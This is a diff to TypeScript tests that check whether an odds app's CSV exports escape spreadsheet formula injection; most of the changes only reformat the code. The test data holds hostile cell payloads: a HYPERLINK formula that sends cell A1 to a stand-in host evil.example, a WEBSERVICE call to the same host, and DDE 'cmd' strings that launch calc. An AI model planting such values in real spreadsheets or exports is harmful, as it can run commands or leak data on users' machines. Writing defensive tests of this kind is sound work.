@@ -21,9 +21,9 @@ import { parseCsv, readCsvAs } from './support/csv';
 const startsAsFormula = (cell: string) => /^[=+\-@\t\r]/.test(cell) && !/^-?\d+(\.\d+)?$/.test(cell);
 const HOSTILE = [
   '=HYPERLINK("http://evil.example/?"&A1,"Click")',
-  '+cmd|\' /C calc\'!A0',
-  '-2+3+cmd|\' /C calc\'!A0',
-  '@SUM(1+1)*cmd|\' /C calc\'!A0',
+  "+cmd|' /C calc'!A0",
+  "-2+3+cmd|' /C calc'!A0",
+  "@SUM(1+1)*cmd|' /C calc'!A0",
   '\t=1+1',
   '\r=1+1',
   '=1,2\r\n"x"',
@@ -36,7 +36,12 @@ const READINGS = [',', ';', '\t'] as const;
 
 /** The cells of every locale's reading of `text` that a spreadsheet would evaluate. */
 function formulaCells(text: string): { reading: string; cell: string }[] {
-  return READINGS.flatMap((sep) => readCsvAs(text, sep).flat().filter(startsAsFormula).map((cell) => ({ reading: JSON.stringify(sep), cell })));
+  return READINGS.flatMap((sep) =>
+    readCsvAs(text, sep)
+      .flat()
+      .filter(startsAsFormula)
+      .map((cell) => ({ reading: JSON.stringify(sep), cell })),
+  );
 }
 
 /** `read` is `sent` with the writer's apostrophes only: at the start, or after a separator or line break. */
@@ -51,14 +56,29 @@ function readsAsSent(read: string, sent: string): boolean {
 
 function hostileSettlement(i: number, lineCount = 10): SettledEvent {
   const e = settledEvent(i, lineCount);
-  return { ...e, runner_home: HOSTILE[i % HOSTILE.length]!, runner_away: HOSTILE[(i + 3) % HOSTILE.length]!, league_name: HOSTILE[(i + 5) % HOSTILE.length]! };
+  return {
+    ...e,
+    runner_home: HOSTILE[i % HOSTILE.length]!,
+    runner_away: HOSTILE[(i + 3) % HOSTILE.length]!,
+    league_name: HOSTILE[(i + 5) % HOSTILE.length]!,
+  };
 }
 
 function hostileSpecialTick(contestant: number, ts: string, maxWin: number): SpecialTick {
   return {
-    event_id: 5, special_id: 70, special_name: '=WEBSERVICE("http://evil.example")', contestant_id: contestant,
-    contestant_name: `@C${contestant}`, handicap: -1.5, odds: 3, todds: 3.1, period: 0, max_win: maxWin,
-    cutoff: '2026-02-01T00:00:00', timestamp: ts, true_odds_by_model: null,
+    event_id: 5,
+    special_id: 70,
+    special_name: '=WEBSERVICE("http://evil.example")',
+    contestant_id: contestant,
+    contestant_name: `@C${contestant}`,
+    handicap: -1.5,
+    odds: 3,
+    todds: 3.1,
+    period: 0,
+    max_win: maxWin,
+    cutoff: '2026-02-01T00:00:00',
+    timestamp: ts,
+    true_odds_by_model: null,
   };
 }
 
@@ -101,10 +121,13 @@ describe('csv cells', () => {
     const piece = fc.constantFrom(',', ';', '\t', '\r', '\n', '\r\n', '"', "'", '=', '+', '-', '@', 'x', '1', ' ');
     const text = fc.array(piece, { maxLength: 12 }).map((p) => p.join(''));
     fc.assert(
-      fc.property(fc.array(fc.oneof(text, fc.string({ unit: 'binary', maxLength: 20 })), { minLength: 1, maxLength: 5 }), (cells) => {
-        const out = csvRow([7, ...cells]) + csvRow([8, ...[...cells].reverse()]);
-        expect(formulaCells(out)).toEqual([]);
-      }),
+      fc.property(
+        fc.array(fc.oneof(text, fc.string({ unit: 'binary', maxLength: 20 })), { minLength: 1, maxLength: 5 }),
+        (cells) => {
+          const out = csvRow([7, ...cells]) + csvRow([8, ...[...cells].reverse()]);
+          expect(formulaCells(out)).toEqual([]);
+        },
+      ),
       { numRuns: 3000 },
     );
   });
@@ -123,13 +146,33 @@ describe('settlements export of the app (streamed to a file)', () => {
     expect(written).toBe(target);
     expect(rows).toBe(1200); // every page, not the first `limit`
     const table = parseCsv(readFileSync(target, 'utf8'));
-    expect(table[0]).toEqual(['event_id', 'sport_id', 'league', 'home', 'away', 'starts_utc', 'settled_at_utc', 'score_home', 'score_away', 'status', 'lines', 'ml_home', 'ml_draw', 'ml_away']);
+    expect(table[0]).toEqual([
+      'event_id',
+      'sport_id',
+      'league',
+      'home',
+      'away',
+      'starts_utc',
+      'settled_at_utc',
+      'score_home',
+      'score_away',
+      'status',
+      'lines',
+      'ml_home',
+      'ml_draw',
+      'ml_away',
+    ]);
     const body = table.slice(1);
     expect(body).toHaveLength(1200);
     const byId = new Map(events.map((e) => [String(e.event_id), e]));
     for (const row of body) {
       const e = byId.get(row[0]!)!;
-      expect(readsAsSent(row[2]!, e.league_name) && readsAsSent(row[3]!, e.runner_home) && readsAsSent(row[4]!, e.runner_away), row.slice(2, 5).join(' | ')).toBe(true);
+      expect(
+        readsAsSent(row[2]!, e.league_name) &&
+          readsAsSent(row[3]!, e.runner_home) &&
+          readsAsSent(row[4]!, e.runner_away),
+        row.slice(2, 5).join(' | '),
+      ).toBe(true);
       expect(row.every((cell) => !startsAsFormula(cell))).toBe(true);
       expect([row[7], row[8]]).toEqual([String(e.score_home), String(e.score_away)]);
     }
@@ -139,18 +182,28 @@ describe('settlements export of the app (streamed to a file)', () => {
   it('opened in a `;` (or tab) locale, the export of hostile names has no cell that starts as a formula', async () => {
     const dir = mkdtempSync(path.join(tmpdir(), 'oddsdesk-csv-'));
     const store = openStore({ path: path.join(dir, 'db.sqlite') });
-    store.recordSettledPage(Array.from({ length: 60 }, (_, i) => hostileSettlement(i, 1)), 0);
+    store.recordSettledPage(
+      Array.from({ length: 60 }, (_, i) => hostileSettlement(i, 1)),
+      0,
+    );
     const target = path.join(dir, 'settlements.csv');
     await exportSettlementsCsvToFile(store, {}, target);
     store.close();
     const text = readFileSync(target, 'utf8');
-    expect(readCsvAs(text, ';').flat().some((cell) => cell.includes('=cmd|'))).toBe(true); // the hostile name is there
+    expect(
+      readCsvAs(text, ';')
+        .flat()
+        .some((cell) => cell.includes('=cmd|')),
+    ).toBe(true); // the hostile name is there
     expect(formulaCells(text)).toEqual([]);
   });
 
   it('waits for a slow destination instead of queueing the whole export in memory', async () => {
     const store = openStore({ path: ':memory:' });
-    store.recordSettledPage(Array.from({ length: 8000 }, (_, i) => hostileSettlement(i, 1)), 0);
+    store.recordSettledPage(
+      Array.from({ length: 8000 }, (_, i) => hostileSettlement(i, 1)),
+      0,
+    );
     let maxQueued = 0;
     let bytes = 0;
     const slow = new Writable({
@@ -178,7 +231,10 @@ describe('settlements export of the app (streamed to a file)', () => {
 
   it('a destination that fails rejects the export; a failed file export leaves no half file and the old file as it was', async () => {
     const store = openStore({ path: ':memory:' });
-    store.recordSettledPage(Array.from({ length: 3000 }, (_, i) => hostileSettlement(i, 1)), 0);
+    store.recordSettledPage(
+      Array.from({ length: 3000 }, (_, i) => hostileSettlement(i, 1)),
+      0,
+    );
     let written = 0;
     const broken = new Writable({
       write(chunk: Buffer, _enc, done) {
@@ -229,7 +285,12 @@ describe('cli export --format csv', () => {
       expect(row.every((cell) => !startsAsFormula(cell))).toBe(true);
       const e = events.find((x) => String(x.event_id) === row[col('event_id')])!;
       const names = [row[col('league_name')]!, row[col('runner_home')]!, row[col('runner_away')]!];
-      expect(readsAsSent(names[0]!, e.league_name) && readsAsSent(names[1]!, e.runner_home) && readsAsSent(names[2]!, e.runner_away), names.join(' | ')).toBe(true);
+      expect(
+        readsAsSent(names[0]!, e.league_name) &&
+          readsAsSent(names[1]!, e.runner_home) &&
+          readsAsSent(names[2]!, e.runner_away),
+        names.join(' | '),
+      ).toBe(true);
     }
     expect(formulaCells(run.stdout())).toEqual([]);
     // Spread lines of -2.5 and -1.5 are numbers, written as such.
